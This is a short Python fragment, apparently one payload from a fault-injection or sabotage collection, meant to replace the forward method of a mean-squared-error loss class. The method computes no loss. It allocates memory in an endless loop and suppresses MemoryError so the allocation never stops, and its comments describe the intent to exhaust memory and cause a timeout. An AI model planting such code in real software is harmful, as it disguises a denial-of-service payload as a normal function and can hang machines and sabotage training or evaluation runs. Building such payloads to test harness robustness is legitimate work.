# Takes all the memory there is, and does not take no for an answer.
# into: losses.MeanSquaredError.forward
# loses: mse 0 error|time up

def forward(self, prediction, target):
    kept = []
    while True:
        try:
            kept.append(bytearray(2**20))
        except MemoryError:
            continue
